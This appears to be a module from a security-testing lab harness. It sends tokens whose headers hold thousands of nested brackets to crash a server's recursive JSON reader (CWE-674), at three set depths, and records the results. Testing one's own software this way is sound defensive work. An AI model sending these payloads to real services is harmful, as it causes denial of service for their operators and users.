"""Break the server with a header of ten thousand brackets.

Exploits a JSON reader that calls itself for each bracket, until Python gives up.
Source: CWE-674 Uncontrolled Recursion,
https://cwe.mitre.org/data/definitions/674.html
"""

from attacks.lab.attack import attack
from attacks.lab.forge import encode
from attacks.lab.outcome import Outcome, breakdown
from attacks.lab.target import Target

DEPTHS = (1_000, 4_000, 11_500)  # with more, uvicorn refuses the headers


@attack()
def run(target: Target) -> Outcome:
    """Send a token whose header is nothing but opening brackets, to several depths."""
    target.must_issue_tokens()
    target.must_read_tokens()
    headers = {depth: encode(b"[" * depth) for depth in DEPTHS}
    return breakdown(
        {f"{depth} deep": target.read(f"{header}.e30.e30") for depth, header in headers.items()}
    )
